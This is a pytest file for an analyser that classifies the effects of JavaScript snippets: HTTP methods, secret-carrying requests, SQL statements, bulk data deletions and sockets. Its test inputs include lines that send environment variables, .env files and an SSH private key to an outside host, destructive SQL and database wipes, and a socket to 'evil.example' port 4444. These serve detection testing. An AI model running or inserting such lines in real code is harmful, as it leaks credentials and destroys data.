"""Requests, sockets, mail and databases in JavaScript."""

from __future__ import annotations

from typing import Any

import pytest
from support.code import deeds, node

from enactd.effects.model import ChangeStore, Request, RunSql, SendData


def one(code: str, kind: type) -> Any:
    (found,) = (effect for effect in node(code) if isinstance(effect, kind))
    return found


@pytest.mark.parametrize(
    ("code", "method", "host", "changes"),
    [
        ("fetch('https://x.y/a')", "GET", "x.y", "nothing"),
        ("fetch('https://x.y/a', {method: 'DELETE'})", "DELETE", "x.y", "destroys"),
        ("fetch('https://x.y/a', {method: 'POST', body: '{}'})", "POST", "x.y", "something"),
        ("axios.delete('https://x.y/a')", "DELETE", "x.y", "destroys"),
        ("axios({url: 'https://x.y/a', method: 'post', data: {}})", "POST", "x.y", "something"),
        ("axios.create().put('https://x.y/a', {})", "PUT", "x.y", "something"),
        ("require('got').post('https://x.y/a', {json: {}})", "POST", "x.y", "something"),
        ("require('https').request({hostname: 'x.y', path: '/a', method: 'DELETE'})", "DELETE", "x.y", "destroys"),
        ("require('http').get('http://localhost:3000')", "GET", "localhost", "nothing"),
        ("fetch(`https://x.y/${id}`)", "GET", "x.y", "nothing"),
        ("fetch('https://x.y/graphql', {method: 'POST', body: JSON.stringify({query: 'mutation { volumeDelete(id: 1) }'})})",
         "POST", "x.y", "destroys"),
    ],
)  # fmt: skip
def test_requests(code: str, method: str, host: str, changes: str) -> None:
    """Method, host and meaning are told whatever the library."""
    found = one(code, Request)
    assert (method, host, changes) == (found.method, found.host, found.changes)


@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://x.y', {method: 'POST', body: JSON.stringify(process.env)})",
        "fetch('https://x.y/?k=' + process.env.SECRET_KEY)",
        "fetch('https://x.y', {method: 'POST', body: fs.readFileSync('.env')})",
        "axios.post('https://x.y', {k: fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8')})",
        "const k = fs.readFileSync('.env').toString('base64'); fetch('https://x.y?' + k)",
    ],
)
def test_secrets_go_along(code: str) -> None:
    """What is read from a secret place stays secret on its way out."""
    assert "secret" in one(code, Request).carries


@pytest.mark.parametrize(
    ("code", "verb", "tables"),
    [
        ("client.query('DROP TABLE users')", "drop", ("users",)),
        ("prisma.$executeRaw`DELETE FROM users`", "delete", ("users",)),
        ("prisma.$executeRawUnsafe('TRUNCATE orders')", "truncate", ("orders",)),
        ("sql`UPDATE users SET a = 1`", "update", ("users",)),
        ("new (require('better-sqlite3'))('x.db').exec('DELETE FROM t')", "delete", ("t",)),
        ("knex.raw('drop table t')", "drop", ("t",)),
        ("pool.query({text: 'DELETE FROM t WHERE id = $1', values: [1]})", "delete", ("t",)),
    ],
)
def test_statements(code: str, verb: str, tables: tuple[str, ...]) -> None:
    """SQL in a string is SQL."""
    found = one(code, RunSql)
    assert (verb, tables) == (found.verb, found.tables)


def test_stores_and_sockets() -> None:
    """Emptying a store and opening a socket are told; a filter makes a difference."""
    assert one("prisma.user.deleteMany({})", ChangeStore).everything
    assert not one("User.deleteMany({where: {id: 1}})", ChangeStore).everything
    assert one("prisma.post.updateMany({data: {a: 1}})", ChangeStore).everything
    assert not one("prisma.post.updateMany({where: {a: 2}, data: {a: 1}})", ChangeStore).everything
    assert not one("Post.updateOne({}, {a: 1})", ChangeStore).everything
    assert not one("User.destroy({where: {id: 1}})", ChangeStore).everything
    assert one("User.update({a: 1}, {where: {}})", ChangeStore).everything
    assert not one("User.update({a: 1}, {where: {id: 2}})", ChangeStore).everything
    assert one("require('knex')(c)('sessions').del()", ChangeStore).everything
    assert not one("require('knex')(c)('sessions').where({id: 1}).del()", ChangeStore).everything
    assert ["ResetDatabase drop"] == deeds(node("mongoose.connection.dropDatabase()"))
    assert ["ChangeStore flush"] == deeds(node("redis.flushall()"))
    assert "evil.example" == one("require('net').connect(4444, 'evil.example')", SendData).to
    assert one("require('net').connect(4444)", SendData).local
    assert ["SendMessage a@b.c"] == deeds(node("require('nodemailer').createTransport({}).sendMail({to: 'a@b.c'})"))


@pytest.mark.parametrize(
    "code", ["app.get('/users', f)", "cache.delete('k')", "list.remove(1)", "db.query(x)", "log.update('a')", "fs.drop"]
)
def test_everyday_names_are_no_database(code: str) -> None:
    """A method's name alone proves nothing."""
    assert [] == deeds(node(code))
